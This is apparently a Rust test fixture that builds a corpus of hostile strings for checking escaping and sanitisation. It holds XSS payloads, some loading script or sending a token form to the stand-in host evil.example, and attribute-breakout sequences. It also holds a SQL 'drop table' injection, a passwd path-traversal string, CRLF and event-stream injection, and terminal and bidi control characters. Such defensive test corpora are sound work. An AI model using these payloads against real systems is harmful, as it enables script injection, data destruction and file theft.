//! Texts that mean harm, and one that does not.

/// What every text is compared with.
pub(super) const HARMLESS: &str = "plain words";

/// Markup and script, by themselves; each also stands behind every [`WAYS_OUT`].
const MARKUP: [&str; 31] = [
    "<kf-evil>",
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\t>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><use href=\"data:image/svg+xml,x#y\"/></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<form action=//evil.example><input name=token></form>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\" \u{1}java\tscript:alert(1)\">x</a>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<plaintext>",
    "<!doctype html><html><head>",
    "<![CDATA[ <script>alert(1)</script> ]]>",
    "<?xml version=\"1.0\"?>",
    "{{ 7*7 }} ${7*7} <%= 7*7 %> {% raw %}",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &quot; onclick=alert(1)",
];

/// What could end the place that a text stands in.
const WAYS_OUT: [&str; 8] = [
    "",
    "\">",
    "' autofocus onfocus=alert(1) x='>",
    "\" onmouseover=alert(1) x=\"",
    "--><!--",
    "</bdi></title></textarea></script></style>",
    "`]]>\\\"\\u003c",
    "\r\n\r\n",
];

/// What harms without markup: control and direction characters, lines of a feed, addresses, SQL, long words.
const OTHERS: [&str; 18] = [
    "javascript:alert(1)",
    "//evil.example/x",
    "/\\evil.example",
    "\u{202e}drawkcab\u{202c}",
    "\u{2066}\u{2067}\u{2068}unbalanced",
    "\u{200f}\u{200e}\u{61c}",
    "line\u{2028}break\u{2029}s",
    "data: forged\n\nevent: gone\ndata: {}\n\n",
    "id: 1\nretry: 0\n\n",
    "\u{1b}[2J\u{1b}]0;title\u{7}\u{9b}31m",
    "\u{7f}\u{80}\u{85}\u{8}\u{c}\u{b}",
    "\u{feff}\u{fffe}\u{ffff}\u{10ffff}",
    "Z\u{351}\u{36b}\u{343}\u{32a}\u{302}\u{36b}\u{33d}\u{34f}\u{334}\u{319}\u{324}",
    "'; drop table kinfolk.task; --",
    "\\\\server\\share %00 %0d%0aset-cookie: x=1",
    "..%2f..%2fetc%2fpasswd",
    "👩‍👩‍👧‍👦🏳️‍🌈\u{200d}\u{200d}",
    "MMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMM",
];

/// All of them, each of them once.
pub(super) fn all() -> Vec<String> {
    let behind = |way: &&str| MARKUP.map(|markup| format!("{way}{markup}"));
    let controls = ('\u{1}'..='\u{1f}').map(|c| format!("a{c}b<i>"));
    let mut texts: Vec<String> = WAYS_OUT.iter().flat_map(behind).chain(OTHERS.map(str::to_owned)).collect();
    texts.extend(controls);
    texts
}
